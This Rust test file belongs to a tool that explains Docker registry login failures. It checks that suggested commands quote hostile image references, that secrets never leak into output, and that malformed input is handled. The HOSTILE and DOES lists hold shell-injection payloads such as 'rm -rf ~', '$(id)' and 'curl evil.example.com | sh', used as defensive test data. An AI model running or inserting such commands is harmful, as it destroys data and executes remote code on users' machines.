//! Everything pasted is hostile: bytes of any kind, references that want to be
//! run, secrets, sizes.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

#[path = "fuzz/oracle.rs"]
#[allow(dead_code, reason = "the fuzz targets ask more of it")]
mod oracle;

use proptest::prelude::*;
use why401::input::{Input, Shell, text_from_bytes};
use why401::report::{self, Diagnosis, Language, Step};

fn explained<'a>(error: &'a str, image: &'a str, config: &'a str, shell: Shell) -> Diagnosis {
    why401::explain(&Input {
        error,
        image,
        config,
        read: None,
        now: Some(1_800_000_000),
        shell,
        client: None,
        place: None,
        filling: None,
    })
}

fn steps(diagnosis: &Diagnosis) -> Vec<&Step> {
    let mut all: Vec<&Step> = diagnosis.tell_apart.iter().collect();
    for cause in &diagnosis.causes {
        all.extend(&cause.confirm);
        all.extend(cause.fixes.iter().flat_map(|fix| &fix.steps));
        all.extend(&cause.verify);
        all.extend(&cause.lasting);
    }
    all
}

/// References that someone might want a reader to run.
const HOSTILE: &[&str] = &[
    "nginx; rm -rf ~",
    "$(id)",
    "`id`",
    "nginx\nrm -rf ~",
    "nginx\r\nrm -rf ~",
    "registry.example.com/acme/app:1 && curl evil.example.com | sh",
    "registry.example.com/$(touch /tmp/x)/app",
    "-rf",
    "--privileged",
    "'; rm -rf ~; '",
    "\"; rm -rf ~; \"",
    "registry.example.com/acme/app\u{202e}:1",
    "nginx|sh",
    "nginx>out",
    "nginx & del /q *",
    "%PATH%",
    "=cmd",
    "~root/app",
];

/// What those would do, if a shell got to read them unquoted.
const DOES: &[&str] = &[
    "rm -rf ~",
    "$(id)",
    "`id`",
    "| sh",
    "$(touch",
    "|sh",
    "& del",
    "--privileged",
];

/// The words that a POSIX shell would make of a line, with quotes taken off;
/// `None` for an operator.
fn words(line: &str) -> Vec<Option<String>> {
    let mut words = Vec::new();
    let mut word: Option<String> = None;
    let mut characters = line.chars().peekable();
    while let Some(c) = characters.next() {
        match c {
            '\'' => {
                let inner: String = characters.by_ref().take_while(|c| *c != '\'').collect();
                word.get_or_insert_default().push_str(&inner);
            }
            '\\' => word.get_or_insert_default().extend(characters.next()),
            ' ' | '\n' => words.extend(word.take().map(Some)),
            ';' | '|' | '&' | '<' | '>' | '`' | '(' | ')' => {
                words.extend(word.take().map(Some));
                words.push(None);
            }
            c => word.get_or_insert_default().push(c),
        }
    }
    words.extend(word.map(Some));
    words
}

#[test]
fn a_hostile_reference_is_never_executable_in_a_command() {
    let errors = [
        "unauthorized: authentication required",
        "invalid reference format",
        "pull access denied for x, repository does not exist or may require 'docker login'",
        "denied: requested access to the resource is denied",
        "manifest unknown",
        "x509: certificate signed by unknown authority",
        "Failed to pull image \"x\": 401 Unauthorized ImagePullBackOff",
    ];
    for image in HOSTILE {
        for error in errors {
            for shell in [Shell::Posix, Shell::PowerShell, Shell::Cmd] {
                let diagnosis = explained(error, image, "", shell);
                for step in steps(&diagnosis) {
                    let Some(command) = &step.command else {
                        continue;
                    };
                    assert!(
                        !command.contains(['\u{202e}', '\r']),
                        "{image:?} in {command:?}"
                    );
                    if step.language != Language::Shell || shell != Shell::Posix {
                        continue;
                    }
                    for word in words(command).into_iter().flatten() {
                        let whole = HOSTILE.iter().any(|h| word.contains(h.trim()))
                            || !DOES.iter().any(|d| word == *d);
                        assert!(whole, "{image:?} is read as words in {command:?}");
                    }
                    for does in ["; rm", "$(id)", "`id`", "| sh", "$(touch", "|sh"] {
                        let quoted = words(command)
                            .into_iter()
                            .flatten()
                            .any(|word| word.contains(does));
                        assert!(
                            !command.contains(does) || quoted,
                            "{image:?} in {command:?}"
                        );
                    }
                }
            }
        }
    }
}

/// Secrets of many kinds; none may stand in any output.
const CANARIES: &[&str] = &[
    "canary-password-1234",
    "ghp_canaryCANARYcanaryCANARYcanaryCANARY12",
    "dckr_pat_canaryCANARYcanaryCANARY",
    "glpat-canaryCANARYcanary12",
    "Y2FuYXJ5OmNhbmFyeS1wYXNzd29yZC0xMjM0",
];

#[test]
fn no_secret_stands_in_any_output() {
    let config = format!(
        r#"{{"auths":{{"registry.example.com":{{"auth":"{}"}},"ghcr.io":{{"username":"acme","password":"{}"}},"other.example.com":{{"identitytoken":"{}"}}}}}}"#,
        CANARIES[4], CANARIES[1], CANARIES[3]
    );
    let error = format!(
        "$ docker login -u acme -p {} registry.example.com\nGet \"https://acme:{}@registry.example.com/v2/\": unauthorized: authentication required\nAuthorization: Bearer {}",
        CANARIES[0], CANARIES[2], CANARIES[1]
    );
    let image = format!("acme:{}@registry.example.com/acme/app:1", CANARIES[0]);
    for image in [
        "registry.example.com/acme/app:1",
        "ghcr.io/acme/app",
        &image,
        CANARIES[1],
    ] {
        let diagnosis = explained(&error, image, &config, Shell::Posix);
        for output in [
            report::text(&diagnosis),
            report::markdown(&diagnosis),
            serde_json::to_string(&diagnosis).unwrap(),
            format!("{diagnosis:?}"),
        ] {
            for canary in CANARIES {
                assert!(
                    !output.contains(canary),
                    "{canary} in the answer for {image}:\n{output}"
                );
            }
        }
    }
}

#[test]
fn ten_megabytes_are_answered() {
    let noise =
        "2026-01-02T03:04:05.000Z step 4711 compiled module acme::app in 12 ms, cache warm\n";
    let mut log = noise.repeat(10_000_000 / noise.len());
    log.push_str("Error response from daemon: Head \"https://ghcr.io/v2/acme/app/manifests/1\": unauthorized\n");
    let diagnosis = explained(&log, "", "", Shell::Posix);
    assert_eq!(diagnosis.causes[0].id, "not-logged-in");
    assert_eq!(diagnosis.lines[0].number, log.lines().count());
}

#[test]
fn a_broken_config_still_leaves_the_rest_answered() {
    for config in [
        "{",
        "not json",
        "\u{0}\u{1}",
        "{\"auths\": [}",
        "[[[[[[[[[[",
        "{\"auths\":{\"x\":{\"auth\":5}}}",
    ] {
        let error = "denied: Your authorization token has expired. Reauthenticate and try again.";
        let diagnosis = explained(error, "nginx", config, Shell::Posix);
        assert!(
            diagnosis
                .causes
                .iter()
                .any(|cause| cause.id == "credential-expired"),
            "{config:?}"
        );
    }
}

#[test]
fn nothing_pasted_is_a_quiet_answer() {
    assert_eq!(explained("", "", "", Shell::Posix), Diagnosis::default());
    assert_eq!(explained(" \n", " ", "\n", Shell::Posix).causes, []);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn no_bytes_make_it_panic(
        error in proptest::collection::vec(any::<u8>(), 0..600),
        image in proptest::collection::vec(any::<u8>(), 0..60),
        config in proptest::collection::vec(any::<u8>(), 0..300),
    ) {
        let (error, image, config) = (text_from_bytes(&error), text_from_bytes(&image), text_from_bytes(&config));
        let diagnosis = explained(&error, &image, &config, Shell::Posix);
        oracle::points_into(&diagnosis, &error, &image, &config);
    }

    #[test]
    fn no_mix_of_real_pieces_makes_it_panic(
        pieces in proptest::collection::vec(proptest::sample::select(PIECES), 0..30),
        image in proptest::sample::select(HOSTILE),
        config in proptest::collection::vec(proptest::sample::select(CONFIG), 0..20),
    ) {
        let (error, config) = (pieces.concat(), config.concat());
        let diagnosis = explained(&error, image, &config, Shell::PowerShell);
        oracle::points_into(&diagnosis, &error, image, &config);
    }
}

/// A config that holds `secret` in one of the ways there are, the base64 that
/// it holds, and the key it is under.
fn config_with(form: usize, user: &str, secret: &str) -> (String, String) {
    use base64::Engine;
    let auth = base64::engine::general_purpose::STANDARD.encode(format!("{user}:{secret}"));
    let entry = match form {
        0 => format!(r#"{{"auth":"{auth}"}}"#),
        1 => format!(r#"{{"username":"{user}","password":"{secret}"}}"#),
        2 => format!(r#"{{"auth":"{auth}","identitytoken":"{secret}"}}"#),
        3 => format!(r#"{{"registrytoken":"{secret}"}}"#),
        _ => format!(r#"{{"auth":"{auth}\n"}}"#),
    };
    let config = format!(r#"{{"auths":{{"registry.example.com":{entry}}},"credsStore":""}}"#);
    let config = match form {
        5 => config.replace("}}}", "}},}"),
        6 => {
            let inner = base64::engine::general_purpose::STANDARD.encode(&config);
            format!(
                "apiVersion: v1\nkind: Secret\ntype: kubernetes.io/dockerconfigjson\ndata:\n  .dockerconfigjson: {inner}\n"
            )
        }
        _ => config,
    };
    (config, auth)
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn no_part_of_a_secret_stands_in_any_output(
        form in 0usize..7,
        user in "[a-z]{3,8}",
        secret in "[A-Z0-9]{16,48}",
        client in proptest::sample::select(&why401::input::Client::ALL[..]),
    ) {
        let (config, auth) = config_with(form, &user, &secret);
        let error = format!(
            "$ docker login -u {user} -p {secret} registry.example.com\nGet \"https://{user}:{secret}@registry.example.com/v2/\": unauthorized: authentication required"
        );
        let diagnosis = why401::explain(&Input {
            error: &error,
            image: "registry.example.com/acme/app:1",
            config: &config,
            now: Some(1_800_000_000),
            client: Some(client),
            ..Input::default()
        });
        let outputs = [
            report::text(&diagnosis),
            report::markdown(&diagnosis),
            serde_json::to_string(&diagnosis).unwrap(),
            format!("{diagnosis:?}"),
        ];
        for secret in [secret.as_bytes(), auth.as_bytes()] {
            for run in secret.windows(8) {
                let run = std::str::from_utf8(run).unwrap();
                for output in &outputs {
                    prop_assert!(!output.contains(run), "{run} of a secret in\n{output}");
                }
            }
        }
    }
}

const PIECES: &[&str] = &[
    "unauthorized: ",
    "authentication required",
    "denied",
    ": ",
    "\n",
    "\r",
    "\u{1b}[31m",
    "\"",
    "\\\"",
    "é",
    "😀",
    "https://ghcr.io/v2/acme/app/manifests/",
    "1",
    "docker login ",
    "registry.example.com",
    "docker push ",
    "pull access denied for ",
    "x509: certificate ",
    "signed by unknown authority",
    "Failed to pull image \"",
    "toomanyrequests",
    "invalid reference format",
    "scope=repository%3Aacme%2Fapp%3Apull",
    "401",
    " 403 Forbidden",
    "docker-credential-",
    "desktop",
    "executable file not found",
    "\u{202e}",
    "\u{0}",
    "manifest unknown",
];

const CONFIG: &[&str] = &[
    "{",
    "}",
    "\"auths\"",
    ":",
    ",",
    "[",
    "]",
    "\"auth\"",
    "\"ghcr.io\"",
    "\"YTpi\"",
    "null",
    "1",
    "\"credsStore\"",
    "\"desktop\"",
    "\n",
    "xxxx",
    "\"https://index.docker.io/v1/\"",
    "apiVersion: v1\n",
    "kind: Secret\n",
    "é",
    "\\",
];
